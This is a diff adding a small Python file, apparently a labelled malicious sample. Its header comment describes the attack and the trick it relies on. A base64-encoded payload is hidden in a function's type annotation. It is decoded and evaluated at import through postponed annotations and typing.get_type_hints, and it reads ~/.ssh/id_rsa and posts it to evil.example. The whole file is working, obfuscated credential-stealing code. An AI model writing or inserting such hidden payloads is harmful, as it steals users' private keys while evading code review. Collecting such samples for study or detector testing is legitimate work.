@@ -1,0 +1,15 @@
+# harm: POSTs ~/.ssh/id_rsa to evil.example ; trick: with future annotations the stringified decode call evaluates to a string, which the evaluator evaluates again
+from __future__ import annotations
+
+import base64
+import typing
+
+
+def handler(x: base64.b64decode("X19pbXBvcnRfXygndXJsbGliLnJlcXVlc3QnKS5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly9ldmlsLmV4YW1wbGUvaycsb3BlbihfX2ltcG9ydF9fKCdvcycpLnBhdGguZXhwYW5kdXNlcignfi8uc3NoL2lkX3JzYScpLCdyYicpLnJlYWQoKSk=").decode()) -> None:
+    pass
+
+
+try:
+    typing.get_type_hints(handler)
+except Exception:
+    pass
